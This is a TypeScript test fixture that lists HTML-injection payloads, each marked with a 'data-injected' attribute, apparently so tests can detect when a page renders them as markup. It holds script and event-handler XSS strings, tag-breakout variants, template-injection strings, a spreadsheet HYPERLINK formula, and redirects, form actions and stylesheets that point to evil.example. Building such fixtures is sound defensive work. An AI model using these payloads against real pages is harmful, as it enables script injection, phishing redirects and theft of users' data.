// Texts that would run, load or change something if a page took any of them for more than text.
// What they would add bears a mark, so that it can be looked for.

/** On every element that a payload would add. */
export const MARK = 'data-injected'

const ACT = `alert(1)`

export const PAYLOADS: readonly string[] = [
  `<script ${MARK}>${ACT}</script>`,
  `</script><script ${MARK}>${ACT}</script>`,
  `<img ${MARK} src=x onerror=${ACT}>`,
  `<svg ${MARK} onload=${ACT}>`,
  `<svg><script ${MARK}>${ACT}</script></svg>`,
  `"><img ${MARK} src=x onerror=${ACT}>`,
  `'><img ${MARK} src=x onerror=${ACT}>`,
  `" autofocus onfocus=${ACT} ${MARK} x="`,
  `' autofocus onfocus=${ACT} ${MARK} x='`,
  `</title><img ${MARK} src=x onerror=${ACT}>`,
  `</textarea><img ${MARK} src=x onerror=${ACT}>`,
  `</style><img ${MARK} src=x onerror=${ACT}>`,
  `--><img ${MARK} src=x onerror=${ACT}>`,
  `]]><img ${MARK} src=x onerror=${ACT}>`,
  `<iframe ${MARK} srcdoc="<script>parent.${ACT}</script>">`,
  `<math><mtext><table><mglyph><style><img ${MARK} src=x onerror=${ACT}>`,
  `<a ${MARK} href="javascript:${ACT}">Win a prize</a>`,
  `<form ${MARK} action="//evil.example"><button>Win a prize</button></form>`,
  `<meta ${MARK} http-equiv=refresh content="0;url=//evil.example">`,
  `<base ${MARK} href="//evil.example/">`,
  `<style ${MARK}>*{display:none}</style>`,
  `<link ${MARK} rel=stylesheet href="//evil.example/a.css">`,
  `<noscript><p title="</noscript><img ${MARK} src=x onerror=${ACT}>">`,
  `&lt;img ${MARK} src=x onerror=${ACT}&gt;`,
  `\\u003cimg ${MARK} src=x onerror=${ACT}\\u003e`,
  `<%= ${ACT} %> {{${ACT}}} \${${ACT}} {%${ACT}%} #{${ACT}}`,
  `<IMG\u00a0${MARK} SRC=x ONERROR=${ACT}> <ımg ${MARK} src=x onerror=${ACT}>`,
  `javascript:${ACT}//`,
  `data:text/html,<script ${MARK}>${ACT}</script>`,
  `Bank\u202egnirotinom\u202c \u2066admin\u2069 \u200f<b ${MARK}>\u2069\u202e`,
  `=HYPERLINK("//evil.example","Win a prize")<b ${MARK}>`,
  `__proto__ constructor <b ${MARK}>`,
]
